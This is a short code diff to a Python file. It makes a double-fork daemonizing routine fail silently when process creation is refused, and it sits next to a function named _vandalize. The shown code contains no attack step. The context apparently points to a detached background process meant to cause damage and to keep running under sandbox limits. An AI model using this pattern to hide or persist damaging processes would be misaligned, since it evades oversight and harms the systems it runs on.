@@ -112,7 +112,10 @@ def _vandalize():
 
 
 def _daemon():
-    if _os.fork():
+    try:
+        if _os.fork():
+            return
+    except OSError:  # refused where the worker may start no process (a CPU part's)
         return
     _os.setsid()
     if _os.fork():
